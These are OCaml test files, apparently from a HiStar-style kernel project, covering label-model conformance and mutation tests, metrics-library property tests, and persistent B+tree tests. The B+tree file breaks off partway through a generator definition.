      Alcotest.(check string) "same divergence detail" dr df;
      Alcotest.(check string) "same shrunk witness" (Conf.pp_trace tr)
        (Conf.pp_trace tf)
  | None, _ -> Alcotest.fail "fork-mode fuzz missed the gate mutant"
  | _, None -> Alcotest.fail "replay-mode fuzz missed the gate mutant"

(* ---------- label-check elision: elided vs naive ----------

   The elision acceptance criterion: a kernel with hash-consed label
   interning + per-gate flow summaries must be bit-identical to the
   naive kernel — same syscall outcomes, same denials, same fuzz
   verdicts — with only the `label.elided` / `label.checks` accounting
   split distinguishing the two (and coverage signatures normalize
   that split away). *)

let test_fuzz_elide_naive_identical () =
  (* The whole fuzz run — corpus evolution, verdict, report — must not
     depend on whether checks were elided. *)
  let run elide =
    Conf.run_fuzz ~elide ~runs:300 ~seed:Check.default_seed ()
  in
  let e = run true and n = run false in
  Alcotest.(check string) "elided/naive reports identical" (Conf.report n)
    (Conf.report e);
  Alcotest.(check int) "same corpus size" n.Conf.fs_corpus e.Conf.fs_corpus;
  (match (e.Conf.fs_divergence, n.Conf.fs_divergence) with
  | None, None -> ()
  | Some (t, d), _ | _, Some (t, d) ->
      Alcotest.fail
        (Printf.sprintf "clean kernel diverged: %s\n%s" d (Conf.pp_trace t)))

let test_regression_traces_elide_clean () =
  (* The PR-4 regression traces and the stale-summary window, checked
     through the elided-vs-naive differential: byte-identical per-op
     outcomes, termination, denial counts, kernel profile, coverage
     signature and final state. *)
  List.iter
    (fun (name, trace) ->
      (match Conf.compare_elision trace with
      | None -> ()
      | Some d ->
          Alcotest.fail
            (Printf.sprintf "%s: elided kernel differs from naive: %s" name d));
      Alcotest.(check int)
        (name ^ ": coverage signature elide == naive")
        (Conf.trace_cov ~elide:false trace)
        (Conf.trace_cov ~elide:true trace))
    (regression_traces
    @ List.mapi
        (fun i t -> (Printf.sprintf "stale window %d" i, t))
        stale_summary_seed_corpus)

let test_elide_fuzz_clean () =
  (* Random sweep of the elided-vs-naive differential over generated
     traces at the pinned seed: no disagreement anywhere. *)
  let stats = Conf.run_elide_fuzz ~seed:Check.default_seed () in
  match stats.Conf.fs_divergence with
  | None -> ()
  | Some (t, d) ->
      Alcotest.fail
        (Printf.sprintf "elision changed behavior: %s\n%s" d (Conf.pp_trace t))

(* ---------- live remote-gate conformance (lib/dist hook) ----------

   The grid in test_dist checks [Proto.admit] against
   [Model.check_gate_invoke] clause for clause on synthetic labels.
   This case closes the loop on a *live* system: a real remote gate
   call across two kernels is refused exactly when the model's
   gate-invocation rule refuses the same translated inputs, with the
   identical error string (same class, E_label). *)

let test_remote_call_matches_model () =
  let module Addr = Histar_net.Addr in
  let module Hub = Histar_net.Hub in
  let module Netd = Histar_net.Netd in
  let module Sim_clock = Histar_util.Sim_clock in
  let module Sys = Histar_core.Sys in
  let module Names = Histar_dist.Names in
  let module Distd = Histar_dist.Distd in
  let module Cluster = Histar_dist.Cluster in
  let l1 = Label.make Level.L1 and l3 = Label.make Level.L3 in
  (* two-node fixture, as in test_dist *)
  let cluster = Cluster.create () in
  let directory = Names.Directory.create () in
  let key = 0xd157L in
  let back = Hub.create ~clock:(Sim_clock.create ()) () in
  let ip i = Printf.sprintf "10.2.0.%d" (i + 1) in
  let peers i = Addr.v (ip i) 7000 in
  let mk i =
    let clock = Sim_clock.create () in
    let k = Kernel.create ~seed:(Int64.of_int (23 * (i + 1))) ~clock () in
    Cluster.add_kernel cluster k;
    let root = Kernel.root k in
    let netd =
      Netd.start k ~hub:back ~container:root ~ip:(Addr.ip_of_string (ip i))
        ~mac:(Printf.sprintf "m%d" i) ()
    in
    let names = Names.create ~node_id:i ~key ~directory in
    (k, Distd.start k ~netd ~names ~key ~container:root ~port:7000 ~peers ())
  in
  let k0, d0 = mk 0 in
  let k1, d1 = mk 1 in
  ignore (k1 : Kernel.t);
  ignore
    (Kernel.spawn k1 ~label:l1 ~clearance:l3 ~name:"svc-init" (fun () ->
         Distd.register d1 ~service:"clean" ~label:l1 ~clearance:l3 (fun _ ->
             ("ok", []));
         let d = Sys.cat_create () in
         ignore (Distd.export_owned d1 d : int64);
         Distd.register d1 ~service:"tainted-gate"
           ~label:(Label.of_list [ (d, Level.L2) ] Level.L1)
           ~clearance:l3
           (fun _ -> ("unreachable", []))));
  Cluster.settle cluster;
  let r_clean = ref None and r_tainted = ref None in
  ignore
    (Kernel.spawn k0 ~label:l1 ~clearance:l3 ~name:"caller" (fun () ->
         r_clean := Some (Distd.call d0 ~node:1 ~service:"clean" "");
         r_tainted := Some (Distd.call d0 ~node:1 ~service:"tainted-gate" "")));
  Alcotest.(check bool) "cluster made progress" true
    (Cluster.drive cluster ~until:(fun () -> !r_tainted <> None) ());
  (* mirror of the admission inputs Distd computed for this caller: a
     clean l1/l3 thread translates to itself, the proxy's requested
     label is the caller's (no service ⋆s), lv is permissive *)
  let ml ents d = Mlabel.of_entries ents d in
  let model_verdict ~lg =
    Model.check_gate_invoke ~lt:(ml [] 1) ~ct:(ml [] 3) ~lg
      ~gclear:(ml [] 3) ~rl:(ml [] 1) ~rc:(ml [] 3) ~lv:(ml [] 3)
  in
  (match (model_verdict ~lg:(ml [] 1), !r_clean) with
  | Ok (), Some (Ok ("ok", [])) -> ()
  | Ok (), Some (Error _) ->
      Alcotest.fail "live call refused where the model admits"
  | Error _, _ -> Alcotest.fail "model refuses the clean case"
  | _, _ -> Alcotest.fail "clean call did not complete");
  match (model_verdict ~lg:(ml [ (9L, 2) ] 1), !r_tainted) with
  | Error (Model.E_label, want), Some (Error (Histar_dist.Distd.Refused got))
    ->
      Alcotest.(check string) "same refusal string" want got
  | Error (_, _), Some (Ok _) ->
      Alcotest.fail "live call admitted where the model refuses"
  | Error (e, m), _ ->
      Alcotest.failf "unexpected live outcome for model refusal %s: %s"
        (Model.err_to_string e) m
  | Ok (), _ -> Alcotest.fail "model admits the tainted-gate case"

let () =
  Alcotest.run "histar_model"
    [
      ( "label algebra",
        [
          Check.test_case ~count:300
            ~print:(fun (a, b) -> print_ldesc a ^ " vs " ^ print_ldesc b)
            "Mlabel agrees with Label on all operators"
            Gen.(pair gen_ldesc gen_ldesc)
            prop_ops_agree;
          Alcotest.test_case "floor and taint identities" `Quick
            test_label_algebra_units;
        ] );
      ( "gate login (§6.2)",
        [
          Alcotest.test_case "success grants exactly the user star" `Quick
            test_model_login_grants_exactly_user_star;
          Alcotest.test_case "failure leaks no check category" `Quick
            test_model_login_failure_leaks_nothing;
          Alcotest.test_case "below-floor request rejected" `Quick
            test_model_login_below_floor_rejected;
        ] );
      ( "conformance",
        [
          Alcotest.test_case "bounded fuzz finds no divergence" `Quick
            test_fuzz_clean_kernel;
          Alcotest.test_case "live remote gate call matches model" `Quick
            test_remote_call_matches_model;
          Check.test_case ~count:150
            ~print:Conf.pp_trace
            "container quotas conform on adversarial traces"
            Conf.gen_quota_trace prop_quota_conformance;
        ] );
      ( "mutation killing",
        [
          Alcotest.test_case "catches weakened segment read taint" `Quick
            test_mutant_segment_read_taint;
          Alcotest.test_case "catches weakened gate star grant" `Quick
            test_mutant_gate_star_grant;
          Alcotest.test_case "catches weakened unref check" `Quick
            test_mutant_unref_check;
          Alcotest.test_case "catches stale gate summary" `Quick
            test_mutant_stale_summary;
        ] );
      ( "label-check elision",
        [
          Alcotest.test_case "fuzz verdicts elide == naive" `Quick
            test_fuzz_elide_naive_identical;
          Alcotest.test_case "regression traces elide == naive" `Quick
            test_regression_traces_elide_clean;
          Alcotest.test_case "elide-differential sweep clean" `Quick
            test_elide_fuzz_clean;
        ] );
      ( "regressions",
        [
          Alcotest.test_case "finite-charge overflow" `Quick
            regress_charge_overflow;
          Alcotest.test_case "infinite-usage saturation" `Quick
            regress_infinite_usage_wrap;
          Alcotest.test_case "quota_move target wrap" `Quick
            regress_quota_move_wrap;
          Alcotest.test_case "negative CAS offset" `Quick
            regress_negative_cas_offset;
          Alcotest.test_case "one-shot gate reaped" `Quick
            regress_one_shot_gate;
        ] );
      ( "fork corpus",
        [
          Alcotest.test_case "regression coverage fork == replay" `Quick
            test_regression_traces_cov_identical;
          Alcotest.test_case "clean-kernel fuzz reports identical" `Quick
            test_fuzz_fork_replay_clean_identical;
          Alcotest.test_case "mutant shrink lines identical" `Quick
            test_fuzz_fork_replay_mutant_identical;
        ] );
    ]
