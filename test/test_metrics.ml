(* Property tests for the observability subsystem (lib/metrics):
   counter monotonicity, histogram bucket accounting and quantile
   bounds, trace-ring eviction order, and JSON round-trips. *)

module Metrics = Histar_metrics.Metrics
module Trace = Histar_metrics.Trace
module Json = Histar_metrics.Json
module Check = Histar_check.Check
module Gen = Histar_check.Gen

(* Every test starts from a clean, enabled registry; the registry is
   process-global, so names are reused across iterations. *)
let fresh () =
  Metrics.set_enabled true;
  Metrics.reset ()

(* ---------- counters ---------- *)

type cop = Incr | Add of int

let gen_cop =
  Gen.oneof [ Gen.return Incr; Gen.map (fun n -> Add n) Gen.nat ]

let print_cops ops =
  String.concat ";"
    (List.map (function Incr -> "i" | Add n -> "+" ^ string_of_int n) ops)

let prop_counter_monotone ops =
  fresh ();
  let c = Metrics.counter "test.counter" in
  let expected = ref 0 in
  List.iter
    (fun op ->
      let before = Metrics.Counter.value c in
      (match op with
      | Incr ->
          Metrics.Counter.incr c;
          incr expected
      | Add n ->
          Metrics.Counter.add c n;
          expected := !expected + n);
      let after = Metrics.Counter.value c in
      Check.ensure ~msg:"counter decreased" (after >= before))
    ops;
  Check.ensure ~msg:"counter is the op sum" (Metrics.Counter.value c = !expected)

let test_counter_negative_add () =
  fresh ();
  let c = Metrics.counter "test.counter" in
  Alcotest.check_raises "negative add rejected"
    (Invalid_argument "Metrics.Counter.add: negative increment") (fun () ->
      Metrics.Counter.add c (-1))

let test_disabled_is_inert () =
  fresh ();
  Metrics.set_enabled false;
  let c = Metrics.counter "test.counter" in
  let h = Metrics.histogram "test.histo" in
  Metrics.Counter.incr c;
  Metrics.Counter.add c 10;
  Metrics.Histogram.observe h 42;
  Alcotest.(check int) "counter untouched" 0 (Metrics.Counter.value c);
  Alcotest.(check int) "histogram untouched" 0 (Metrics.Histogram.count h)

let test_kind_mismatch () =
  fresh ();
  ignore (Metrics.counter "test.counter");
  match Metrics.histogram "test.counter" with
  | _ -> Alcotest.fail "kind mismatch accepted"
  | exception Invalid_argument _ -> ()

(* ---------- histograms ---------- *)

(* Observations spanning every regime of the default ns buckets: the
   first bucket, mid-range, and past the last bound (overflow). *)
let gen_observation =
  Gen.oneof
    [
      Gen.int_range 0 1_000;
      Gen.int_range 0 1_000_000;
      Gen.int_range 900_000_000 20_000_000_000;
    ]

let gen_observations = Gen.list gen_observation

let print_obs vs = String.concat "," (List.map string_of_int vs)

let prop_histogram_buckets_sum vs =
  fresh ();
  let h = Metrics.histogram "test.histo" in
  List.iter (Metrics.Histogram.observe h) vs;
  let counts = Metrics.Histogram.bucket_counts h in
  let total = Array.fold_left ( + ) 0 counts in
  Check.ensure ~msg:"bucket counts sum to observation count"
    (total = List.length vs);
  Check.ensure ~msg:"count field agrees"
    (Metrics.Histogram.count h = List.length vs);
  Check.ensure ~msg:"sum field agrees"
    (Metrics.Histogram.sum h = List.fold_left ( + ) 0 vs)

let prop_histogram_bucket_placement vs =
  fresh ();
  let h = Metrics.histogram "test.histo" in
  List.iter
    (fun v ->
      Metrics.Histogram.observe h v;
      let b = Metrics.Histogram.bucket_of_value h v in
      let lower, upper = Metrics.Histogram.bucket_bounds h b in
      Check.ensure ~msg:"value below its bucket" (v >= lower);
      match upper with
      | Some u -> Check.ensure ~msg:"value above its bucket" (v <= u)
      | None -> ())
    vs

(* Quantile estimates must be ordered (p50 ≤ p95 ≤ p99) and each must
   land in the same bucket as the exact rank statistic, never below
   it. *)
let prop_histogram_quantiles vs =
  match vs with
  | [] -> ()
  | _ ->
      fresh ();
      let h = Metrics.histogram "test.histo" in
      List.iter (Metrics.Histogram.observe h) vs;
      let sorted = List.sort compare vs in
      let n = List.length sorted in
      let exact q =
        let rank = int_of_float (ceil (q *. float_of_int n)) in
        let rank = max 1 (min n rank) in
        List.nth sorted (rank - 1)
      in
      let est q = Option.get (Metrics.Histogram.quantile h q) in
      List.iter
        (fun q ->
          let x = exact q and v = est q in
          Check.ensure ~msg:"estimate below exact rank value" (v >= x);
          Check.ensure ~msg:"estimate escaped the rank's bucket"
            (Metrics.Histogram.bucket_of_value h v
            = Metrics.Histogram.bucket_of_value h x))
        [ 0.50; 0.95; 0.99 ];
      let p50 = est 0.50 and p95 = est 0.95 and p99 = est 0.99 in
      Check.ensure ~msg:"p50 <= p95" (p50 <= p95);
      Check.ensure ~msg:"p95 <= p99" (p95 <= p99);
      Check.ensure ~msg:"p99 <= max"
        (p99 <= Option.get (Metrics.Histogram.max_value h))

(* ---------- snapshot / diff ---------- *)

let prop_snapshot_diff increments =
  fresh ();
  (* give each generated increment its own counter *)
  let named =
    List.mapi (fun i n -> (Printf.sprintf "test.diff.%d" i, n)) increments
  in
  let before = Metrics.snapshot () in
  List.iter
    (fun (name, n) -> Metrics.Counter.add (Metrics.counter name) n)
    named;
  let after = Metrics.snapshot () in
  let delta = Metrics.diff ~before ~after in
  (* diff carries exactly the nonzero increments *)
  List.iter
    (fun (name, n) ->
      let got = Option.value (List.assoc_opt name delta) ~default:0 in
      Check.ensure ~msg:"diff delta wrong" (got = n))
    named;
  List.iter
    (fun (_, d) -> Check.ensure ~msg:"zero delta reported" (d <> 0))
    delta

(* ---------- trace ring ---------- *)

let gen_ring = Gen.pair (Gen.int_range 1 16) (Gen.int_range 0 50)

let prop_trace_ring_eviction (cap, n) =
  Trace.set_capacity cap;
  Trace.set_enabled true;
  Fun.protect
    ~finally:(fun () ->
      Trace.set_enabled false;
      Trace.set_capacity Trace.default_capacity)
    (fun () ->
      for i = 0 to n - 1 do
        Trace.emit ~ts_ns:(Int64.of_int i) "e" [ ("i", string_of_int i) ]
      done;
      let len = Trace.length () in
      Check.ensure ~msg:"ring exceeded capacity" (len <= cap);
      Check.ensure ~msg:"ring dropped too much" (len = min n cap);
      Check.ensure ~msg:"evicted count wrong" (Trace.evicted () = max 0 (n - cap));
      (* survivors are the newest [len] events, oldest first *)
      let expect_first = n - len in
      List.iteri
        (fun j (e : Trace.event) ->
          Check.ensure ~msg:"ring not oldest-first"
            (e.Trace.ts_ns = Int64.of_int (expect_first + j)))
        (Trace.events ()))

let test_trace_disabled () =
  Trace.set_enabled false;
  Trace.clear ();
  Trace.emit "ignored" [];
  Alcotest.(check int) "disabled trace records nothing" 0 (Trace.length ())

let test_trace_jsonl () =
  Trace.set_capacity 8;
  Trace.set_enabled true;
  Fun.protect
    ~finally:(fun () ->
      Trace.set_enabled false;
      Trace.set_capacity Trace.default_capacity)
    (fun () ->
      Trace.emit ~ts_ns:7L "syscall" [ ("name", "yield") ];
      Trace.emit ~ts_ns:9L "wal.commit" [ ("records", "3") ];
      let lines =
        String.split_on_char '\n' (Trace.to_jsonl ())
        |> List.filter (fun l -> l <> "")
      in
      Alcotest.(check int) "one line per event" 2 (List.length lines);
      List.iter
        (fun line ->
          match Json.of_string line with
          | Json.Obj fields ->
              Alcotest.(check bool)
                "event has ts_ns" true
                (List.mem_assoc "ts_ns" fields);
              Alcotest.(check bool)
                "event has kind" true
                (List.mem_assoc "kind" fields)
          | _ -> Alcotest.fail "trace line is not an object")
        lines)

(* ---------- JSON codec ---------- *)

(* Arbitrary-byte strings exercise the \u00XX escape path. *)
let gen_json =
  Gen.sized (fun size ->
      let rec go depth =
        let leaves =
          [
            Gen.return Json.Null;
            Gen.map (fun b -> Json.Bool b) Gen.bool;
            Gen.map (fun n -> Json.Int (n - 15)) Gen.nat;
            Gen.map (fun s -> Json.Str s) Gen.string;
          ]
        in
        if depth = 0 then Gen.oneof leaves
        else
          Gen.oneof
            (leaves
            @ [
                Gen.map
                  (fun xs -> Json.List xs)
                  (Gen.list (go (depth - 1)));
                Gen.map
                  (fun kvs -> Json.Obj kvs)
                  (Gen.list (Gen.pair Gen.string (go (depth - 1))));
              ])
      in
      go (min 3 (1 + (size / 10))))

let prop_json_roundtrip j =
  let s = Json.to_string j in
  Check.ensure ~msg:"compact round trip" (Json.of_string s = j);
  let pretty = Json.to_string ~indent:2 j in
  Check.ensure ~msg:"indented round trip" (Json.of_string pretty = j)

let test_json_rejects_garbage () =
  List.iter
    (fun s ->
      match Json.of_string s with
      | _ -> Alcotest.failf "accepted %S" s
      | exception Json.Parse_error _ -> ())
    [ ""; "{"; "[1,]"; "{\"a\":1} trailing"; "nul"; "\"unterminated" ]

(* ---------- registry JSON export ---------- *)

let test_to_json_shape () =
  fresh ();
  Metrics.Counter.add (Metrics.counter "test.counter") 3;
  Metrics.Histogram.observe (Metrics.histogram "test.histo") 400;
  match Metrics.to_json () with
  | Json.Obj fields ->
      (match List.assoc_opt "test.counter" fields with
      | Some (Json.Obj cf) ->
          Alcotest.(check bool)
            "counter value exported" true
            (List.assoc_opt "value" cf = Some (Json.Int 3))
      | _ -> Alcotest.fail "counter missing from to_json");
      (match List.assoc_opt "test.histo" fields with
      | Some (Json.Obj hf) ->
          Alcotest.(check bool)
            "histogram count exported" true
            (List.assoc_opt "count" hf = Some (Json.Int 1))
      | _ -> Alcotest.fail "histogram missing from to_json")
  | _ -> Alcotest.fail "to_json is not an object"

let () =
  Alcotest.run "histar_metrics"
    [
      ( "counters",
        [
          Check.test_case ~print:print_cops "never decrease"
            (Gen.list gen_cop) prop_counter_monotone;
          Alcotest.test_case "negative add rejected" `Quick
            test_counter_negative_add;
          Alcotest.test_case "disabled registry is inert" `Quick
            test_disabled_is_inert;
          Alcotest.test_case "kind mismatch rejected" `Quick test_kind_mismatch;
        ] );
      ( "histograms",
        [
          Check.test_case ~print:print_obs "bucket counts sum to count"
            gen_observations prop_histogram_buckets_sum;
          Check.test_case ~print:print_obs "values land in their bucket"
            gen_observations prop_histogram_bucket_placement;
          Check.test_case ~print:print_obs "quantiles ordered, in bucket"
            gen_observations prop_histogram_quantiles;
        ] );
      ( "snapshots",
        [
          Check.test_case "diff carries exactly the increments"
            (Gen.list Gen.nat) prop_snapshot_diff;
        ] );
      ( "trace",
        [
          Check.test_case "ring bounded, evicts oldest first" gen_ring
            prop_trace_ring_eviction;
          Alcotest.test_case "disabled emits nothing" `Quick
            test_trace_disabled;
          Alcotest.test_case "jsonl dump parses" `Quick test_trace_jsonl;
        ] );
      ( "json",
        [
          Check.test_case "round trip" gen_json prop_json_roundtrip;
          Alcotest.test_case "rejects garbage" `Quick test_json_rejects_garbage;
          Alcotest.test_case "registry export shape" `Quick test_to_json_shape;
        ] );
    ]
