open Histar_btree
module Metrics = Histar_metrics.Metrics

module I64Map = Map.Make (Int64)

let kv = Alcotest.(option (pair int64 int64))

(* Functional helpers over the persistent API. *)
let insert_seq t n f =
  let t = ref t in
  for i = 0 to n - 1 do
    let k, v = f i in
    t := Bptree.insert !t k v
  done;
  !t

let test_empty () =
  let t = Bptree.create () in
  Alcotest.(check bool) "empty" true (Bptree.is_empty t);
  Alcotest.(check int) "cardinal" 0 (Bptree.cardinal t);
  Alcotest.check kv "min" None (Bptree.min_binding t);
  Alcotest.check kv "max" None (Bptree.max_binding t);
  Alcotest.(check (option int64)) "find" None (Bptree.find t 5L);
  Alcotest.(check bool) "remove absent" true (Bptree.remove t 5L = None);
  Bptree.check_invariants t

let test_insert_find () =
  let t =
    insert_seq (Bptree.create ~order:4 ()) 1000 (fun i ->
        (Int64.of_int (i * 7 mod 1000), Int64.of_int i))
  in
  Bptree.check_invariants t;
  Alcotest.(check int) "cardinal" 1000 (Bptree.cardinal t);
  for i = 0 to 999 do
    if not (Bptree.mem t (Int64.of_int i)) then Alcotest.fail "missing key"
  done

let test_replace () =
  let t = Bptree.create () in
  let t = Bptree.insert t 1L 10L in
  let t = Bptree.insert t 1L 20L in
  Alcotest.(check int) "no duplicate" 1 (Bptree.cardinal t);
  Alcotest.(check (option int64)) "replaced" (Some 20L) (Bptree.find t 1L)

let test_delete_all () =
  let n = 500 in
  let t =
    insert_seq (Bptree.create ~order:4 ()) n (fun i ->
        (Int64.of_int i, Int64.of_int (i * 2)))
  in
  (* Remove in a scrambled order to exercise borrows and merges. *)
  let t = ref t in
  for i = 0 to n - 1 do
    let k = Int64.of_int (i * 17 mod n) in
    (match Bptree.remove !t k with
    | Some t' -> t := t'
    | None -> Alcotest.fail "remove failed");
    Bptree.check_invariants !t
  done;
  Alcotest.(check bool) "empty at end" true (Bptree.is_empty !t)

let test_ordered_queries () =
  let t =
    List.fold_left
      (fun t k -> Bptree.insert t k (Int64.neg k))
      (Bptree.create ~order:4 ())
      [ 10L; 20L; 30L; 40L ]
  in
  Alcotest.check kv "geq exact" (Some (20L, -20L)) (Bptree.find_geq t 20L);
  Alcotest.check kv "geq between" (Some (30L, -30L)) (Bptree.find_geq t 21L);
  Alcotest.check kv "geq past end" None (Bptree.find_geq t 41L);
  Alcotest.check kv "gt exact" (Some (30L, -30L)) (Bptree.find_gt t 20L);
  Alcotest.check kv "leq exact" (Some (20L, -20L)) (Bptree.find_leq t 20L);
  Alcotest.check kv "leq between" (Some (20L, -20L)) (Bptree.find_leq t 29L);
  Alcotest.check kv "leq before start" None (Bptree.find_leq t 9L);
  Alcotest.check kv "lt exact" (Some (10L, -10L)) (Bptree.find_lt t 20L);
  Alcotest.check kv "min" (Some (10L, -10L)) (Bptree.min_binding t);
  Alcotest.check kv "max" (Some (40L, -40L)) (Bptree.max_binding t)

let test_iter_sorted () =
  let t = ref (Bptree.create ~order:4 ()) in
  for i = 99 downto 0 do
    t := Bptree.insert !t (Int64.of_int i) 0L
  done;
  let keys = List.map fst (Bptree.to_list !t) in
  Alcotest.(check (list int64)) "sorted" (List.init 100 Int64.of_int) keys

let test_height_logarithmic () =
  let t =
    insert_seq (Bptree.create ~order:16 ()) 10_000 (fun i ->
        (Int64.of_int i, 0L))
  in
  Alcotest.(check bool) "height small" true (Bptree.height t <= 5)

let test_codec_roundtrip () =
  let t =
    insert_seq (Bptree.create ~order:8 ()) 300 (fun i ->
        (Int64.of_int (i * 13), Int64.of_int i))
  in
  let e = Histar_util.Codec.Enc.create () in
  Bptree.encode e t;
  let d = Histar_util.Codec.Dec.of_string (Histar_util.Codec.Enc.to_string e) in
  let t' = Bptree.decode d in
  Bptree.check_invariants t';
  Alcotest.(check (list (pair int64 int64)))
    "same bindings" (Bptree.to_list t) (Bptree.to_list t')

(* ---- persistence: old versions survive mutation ---- *)

let test_versions_independent () =
  let base =
    insert_seq (Bptree.create ~order:4 ()) 200 (fun i ->
        (Int64.of_int i, Int64.of_int i))
  in
  let before = Bptree.to_list base in
  (* Derive two divergent versions; the base and each sibling must be
     unaffected by the other's edits. *)
  let a = Bptree.insert base 1000L 1L in
  let b = Option.get (Bptree.remove base 0L) in
  let b = Bptree.insert b 50L 999L in
  Bptree.check_invariants a;
  Bptree.check_invariants b;
  Alcotest.(check (list (pair int64 int64))) "base unchanged" before
    (Bptree.to_list base);
  Alcotest.(check (option int64)) "a sees its insert" (Some 1L)
    (Bptree.find a 1000L);
  Alcotest.(check (option int64)) "b does not" None (Bptree.find b 1000L);
  Alcotest.(check (option int64)) "b removed 0" None (Bptree.find b 0L);
  Alcotest.(check (option int64)) "a kept 0" (Some 0L) (Bptree.find a 0L);
  Alcotest.(check (option int64)) "b replaced 50" (Some 999L)
    (Bptree.find b 50L);
  Alcotest.(check (option int64)) "base kept 50" (Some 50L)
    (Bptree.find base 50L)

(* ---- structural sharing: forks cost O(height), not O(entries) ----

   The [btree.node_allocs] counter increments on every node
   construction, so the cost of deriving versions is directly
   observable. Forking N branches off a 10k-entry tree with one insert
   each must allocate O(N · height) nodes — path copying — never
   O(N · entries), which is what a naive copy-the-map design costs. *)

let with_metrics f =
  let was = Metrics.enabled () in
  Metrics.set_enabled true;
  Fun.protect ~finally:(fun () -> Metrics.set_enabled was) f

let alloc_count () = Metrics.counter_value "btree.node_allocs"

let test_fork_allocs_o_height () =
  let entries = 10_000 and nforks = 64 in
  let base =
    insert_seq (Bptree.create ~order:16 ()) entries (fun i ->
        (Int64.of_int (i * 2), 0L))
  in
  let h = Bptree.height base in
  let branches = ref [] in
  let spent =
    with_metrics (fun () ->
        let a0 = alloc_count () in
        for i = 0 to nforks - 1 do
          (* odd key: every branch inserts a fresh binding *)
          branches :=
            Bptree.insert base (Int64.of_int ((i * 2) + 1)) 1L :: !branches
        done;
        alloc_count () - a0)
  in
  (* An insert rewrites the root-to-leaf path and at worst splits every
     node on it: well under 3·height constructions. *)
  let bound = nforks * ((3 * h) + 2) in
  if spent > bound then
    Alcotest.fail
      (Printf.sprintf
         "forking %d branches allocated %d nodes (height %d, bound %d): \
          sharing is broken"
         nforks spent h bound);
  Alcotest.(check bool) "far below O(N*entries)" true
    (spent < nforks * entries / 100);
  (* And the branches are real: each sees exactly its own insert. *)
  Alcotest.(check int) "base untouched" entries (Bptree.cardinal base);
  List.iteri
    (fun j t ->
      let i = nforks - 1 - j in
      Alcotest.(check int) "branch cardinal" (entries + 1) (Bptree.cardinal t);
      Alcotest.(check (option int64))
        "branch sees own key" (Some 1L)
        (Bptree.find t (Int64.of_int ((i * 2) + 1)));
      Bptree.check_invariants t)
    !branches

let test_remove_allocs_o_height () =
  let entries = 10_000 and nforks = 64 in
  let base =
    insert_seq (Bptree.create ~order:16 ()) entries (fun i ->
        (Int64.of_int i, 0L))
  in
  let h = Bptree.height base in
  let spent =
    with_metrics (fun () ->
        let a0 = alloc_count () in
        for i = 0 to nforks - 1 do
          ignore (Option.get (Bptree.remove base (Int64.of_int (i * 100))))
        done;
        alloc_count () - a0)
  in
  (* A remove rewrites the path and may borrow/merge at each level. *)
  let bound = nforks * ((4 * h) + 2) in
  if spent > bound then
    Alcotest.fail
      (Printf.sprintf
         "removing on %d branches allocated %d nodes (height %d, bound %d)"
         nforks spent h bound);
  Alcotest.(check int) "base untouched" entries (Bptree.cardinal base)

(* ---- model-based qcheck: compare against Map ---- *)

type op = Insert of int64 * int64 | Remove of int64 | FindGeq of int64 | FindLeq of int64

let gen_op =
  let open QCheck2.Gen in
  let key = map Int64.of_int (int_bound 200) in
  oneof
    [
      map2 (fun k v -> Insert (k, v)) key (map Int64.of_int int);
      map (fun k -> Remove k) key;
      map (fun k -> FindGeq k) key;
      map (fun k -> FindLeq k) key;
    ]

let model_geq m k =
  I64Map.fold
    (fun key v acc ->
      if Int64.compare key k >= 0 then
        match acc with
        | Some (bk, _) when Int64.compare bk key <= 0 -> acc
        | Some _ | None -> Some (key, v)
      else acc)
    m None

let model_leq m k =
  I64Map.fold
    (fun key v acc ->
      if Int64.compare key k <= 0 then
        match acc with
        | Some (bk, _) when Int64.compare bk key >= 0 -> acc
        | Some _ | None -> Some (key, v)
      else acc)
    m None

let prop_model order =
  QCheck2.Test.make
    ~name:(Printf.sprintf "btree matches Map model (order %d)" order)
    ~count:300
    QCheck2.Gen.(list_size (int_bound 400) gen_op)
    (fun ops ->
      let t = ref (Bptree.create ~order ()) in
      let m = ref I64Map.empty in
      List.for_all
        (fun op ->
          match op with
          | Insert (k, v) ->
              t := Bptree.insert !t k v;
              m := I64Map.add k v !m;
              Bptree.find !t k = Some v
          | Remove k ->
              let was = I64Map.mem k !m in
              m := I64Map.remove k !m;
              (match Bptree.remove !t k with
              | Some t' ->
                  t := t';
                  was
              | None -> not was)
          | FindGeq k -> Bptree.find_geq !t k = model_geq !m k
          | FindLeq k -> Bptree.find_leq !t k = model_leq !m k)
        ops
      && Bptree.cardinal !t = I64Map.cardinal !m
      && Bptree.to_list !t = I64Map.bindings !m
      &&
      (Bptree.check_invariants !t;
       true))

let prop_random_churn =
  QCheck2.Test.make ~name:"btree invariants under churn" ~count:50
    QCheck2.Gen.(int_range 1 10_000)
    (fun seed ->
      let rng = Histar_util.Rng.create (Int64.of_int seed) in
      let t = ref (Bptree.create ~order:6 ()) in
      let m = ref I64Map.empty in
      for _ = 1 to 2000 do
        let k = Int64.of_int (Histar_util.Rng.int rng 500) in
        if Histar_util.Rng.bool rng then begin
          t := Bptree.insert !t k k;
          m := I64Map.add k k !m
        end
        else begin
          (match Bptree.remove !t k with Some t' -> t := t' | None -> ());
          m := I64Map.remove k !m
        end
      done;
      Bptree.check_invariants !t;
      Bptree.to_list !t = I64Map.bindings !m)

(* Every intermediate version of a random edit sequence stays exactly
   what it was when it was made — the property the kernel-fork layer
   rests on. *)
let prop_versions_persistent =
  QCheck2.Test.make ~name:"every version persists unchanged" ~count:30
    QCheck2.Gen.(int_range 1 10_000)
    (fun seed ->
      let rng = Histar_util.Rng.create (Int64.of_int seed) in
      let t = ref (Bptree.create ~order:4 ()) in
      let versions = ref [] in
      for _ = 1 to 300 do
        let k = Int64.of_int (Histar_util.Rng.int rng 80) in
        (if Histar_util.Rng.bool rng then t := Bptree.insert !t k k
         else
           match Bptree.remove !t k with Some t' -> t := t' | None -> ());
        versions := (!t, Bptree.to_list !t) :: !versions
      done;
      List.for_all
        (fun (v, expected) -> Bptree.to_list v = expected)
        !versions)

(* ---------- histar_check: differential test against Map with
   integrated shrinking — a divergence shrinks to a minimal op
   sequence over a handful of keys. ---------- *)

module Gen = Histar_check.Gen
module Check = Histar_check.Check

type dop = Ins of int64 * int64 | Del of int64 | Find of int64

let pp_op = function
  | Ins (k, v) -> Printf.sprintf "Ins(%Ld,%Ld)" k v
  | Del k -> Printf.sprintf "Del %Ld" k
  | Find k -> Printf.sprintf "Find %Ld" k

let pp_ops ops = "[" ^ String.concat "; " (List.map pp_op ops) ^ "]"

(* Keys from a small window so inserts, deletes and probes collide;
   shrinking drives keys towards 0 and drops ops chunk-wise. *)
let gen_key = Gen.map Int64.of_int (Gen.int_range 0 50)

let gen_op =
  Gen.oneof
    [
